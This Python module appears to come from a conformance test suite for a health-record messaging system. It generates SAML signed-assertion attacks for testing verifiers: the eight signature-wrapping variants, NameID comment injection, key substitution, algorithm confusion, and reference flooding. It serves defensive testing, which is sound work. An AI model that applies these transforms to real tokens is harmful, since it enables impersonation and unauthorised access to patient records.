"""What attackers do to a signed assertion: edits after signing, and the eight wrappings of signature wrapping.

The wrappings are those of *On Breaking SAML* (USENIX Security 2012), for an assertion without a Response around it:
E is a forged copy with another subject and no signature of its own, O the original, S its signature.
"""

import copy
from collections.abc import Callable
from typing import Final, TypeAlias

from lxml import etree

from conformance.messages.dmp import names as n
from conformance.messages.dmp import xmldsig

Attack: TypeAlias = Callable[[etree._Element], list[etree._Element]]
"""From the signed assertion to what stands in wsse:Security."""

FORGED: Final = "899799999993"
"""A PS_IdNat of nobody."""
_DS: Final = f"{{{n.DS}}}"
_SAML: Final = f"{{{n.SAML}}}"


def applied(attack: Attack, token: str) -> str:
    return "".join(xmldsig.text(each) for each in attack(xmldsig.parse(token)))


def name_id(assertion: etree._Element) -> etree._Element:
    return next(assertion.iter(f"{_SAML}NameID"))


def signature(assertion: etree._Element) -> etree._Element:
    return next(assertion.iter(f"{_DS}Signature"))


def _taken(assertion: etree._Element) -> etree._Element:
    found = signature(assertion)
    assertion.remove(found)
    return found


def _forged(original: etree._Element) -> etree._Element:
    forged = copy.deepcopy(original)
    _taken(forged)
    return _altered(forged)


def _altered(assertion: etree._Element) -> etree._Element:
    assertion.set("ID", "_forged")
    name_id(assertion).text = FORGED
    return assertion


def _object(signature: etree._Element, content: etree._Element) -> None:
    etree.SubElement(signature, f"{_DS}Object").append(content)


def original_in_signature(original: etree._Element) -> list[etree._Element]:
    forged, moved = _forged(original), _taken(original)
    _object(moved, original)
    forged.insert(1, moved)
    return [forged]


def original_beside(original: etree._Element) -> list[etree._Element]:
    forged = _forged(original)
    forged.insert(1, _taken(original))
    return [forged, original]


def forged_before(original: etree._Element) -> list[etree._Element]:
    return [_forged(original), original]


def original_inside_forged(original: etree._Element) -> list[etree._Element]:
    forged = _forged(original)
    forged.append(original)
    return [forged]


def clean_after_altered(original: etree._Element) -> list[etree._Element]:
    clean = copy.deepcopy(original)
    _taken(clean)
    return [_altered(original), clean]


def clean_in_signature(original: etree._Element) -> list[etree._Element]:
    clean = copy.deepcopy(original)
    _taken(clean)
    _altered(original)
    signature(original).append(clean)
    return [original]


def forged_in_extension(original: etree._Element) -> list[etree._Element]:
    extension = etree.Element("{urn:example:extension}Extensions")
    extension.append(_forged(original))
    return [extension, original]


def whole_in_signature(original: etree._Element) -> list[etree._Element]:
    forged, whole = _forged(original), copy.deepcopy(original)
    moved = _taken(original)
    _object(moved, whole)
    forged.insert(1, moved)
    return [forged]


WRAPPINGS: Final[tuple[tuple[str, Attack], ...]] = (
    ("the original in an Object of its signature, moved into the forgery", original_in_signature),
    ("the signature moved into the forgery, the original beside it", original_beside),
    ("the forgery before the original", forged_before),
    ("the original inside the forgery", original_inside_forged),
    ("the altered original with its signature, a clean copy after it", clean_after_altered),
    ("the altered original, a clean copy inside its signature", clean_in_signature),
    ("the forgery in an extension before the original", forged_in_extension),
    ("the forgery with the signature, in whose Object is the signed original", whole_in_signature),
)
"""XSW 1 to 8, with what each does."""


def changed_subject(original: etree._Element) -> list[etree._Element]:
    name_id(original).text = FORGED
    return [original]


def changed_patient(original: etree._Element) -> list[etree._Element]:
    for each in original.iter(f"{_SAML}Attribute"):
        if each.get("Name") == n.RESOURCE_ID:
            each[0].text = (each[0].text or "").replace("^NH", "^PI")
    return [original]


def comment_in_subject(original: etree._Element) -> list[etree._Element]:
    """The digest does not see a comment, and some readers stop at it."""
    found = name_id(original)
    whole = found.text or ""
    comment = etree.Comment("x")
    found.text, comment.tail = whole[:6], whole[6:]
    found.append(comment)
    return [original]


def instruction_in_subject(original: etree._Element) -> list[etree._Element]:
    found = name_id(original)
    whole = found.text or ""
    instruction = etree.ProcessingInstruction("x", "y")
    found.text, instruction.tail = whole[:6], whole[6:]
    found.append(instruction)
    return [original]


def two_signatures(original: etree._Element) -> list[etree._Element]:
    found = signature(original)
    found.addnext(copy.deepcopy(found))
    return [original]


def two_assertions(original: etree._Element) -> list[etree._Element]:
    """The same twice, both signed."""
    return [original, copy.deepcopy(original)]


def another_element_of_its_id(original: etree._Element) -> list[etree._Element]:
    return [etree.Element("{urn:example:extension}Token", ID=original.get("ID", "")), original]


def bare_key(original: etree._Element) -> list[etree._Element]:
    information = next(original.iter(f"{_DS}KeyInfo"))
    information.clear()
    value = etree.SubElement(etree.SubElement(information, f"{_DS}KeyValue"), f"{_DS}RSAKeyValue")
    for name in ("Modulus", "Exponent"):
        etree.SubElement(value, f"{_DS}{name}").text = "AQAB"
    return [original]


def no_key_information(original: etree._Element) -> list[etree._Element]:
    found = signature(original)
    found.remove(next(original.iter(f"{_DS}KeyInfo")))
    return [original]


def transform(algorithm: str) -> Attack:
    """One transform more in the reference."""

    def attack(original: etree._Element) -> list[etree._Element]:
        etree.SubElement(next(original.iter(f"{_DS}Transforms")), f"{_DS}Transform", Algorithm=algorithm)
        return [original]

    return attack


def reference_to(uri: str) -> Attack:
    def attack(original: etree._Element) -> list[etree._Element]:
        next(original.iter(f"{_DS}Reference")).set("URI", uri)
        return [original]

    return attack


def many_references(original: etree._Element) -> list[etree._Element]:
    """More work for the reader than any message is worth."""
    reference = next(original.iter(f"{_DS}Reference"))
    for _ in range(100):
        reference.addnext(copy.deepcopy(reference))
    return [original]


def declared_method(algorithm: str) -> Attack:
    """The method is another than was used: a downgrade, or the public key taken for a secret."""

    def attack(original: etree._Element) -> list[etree._Element]:
        next(original.iter(f"{_DS}SignatureMethod")).set("Algorithm", algorithm)
        return [original]

    return attack


def invented_value(original: etree._Element) -> list[etree._Element]:
    next(original.iter(f"{_DS}SignatureValue")).text = xmldsig.zero_value()
    return [original]
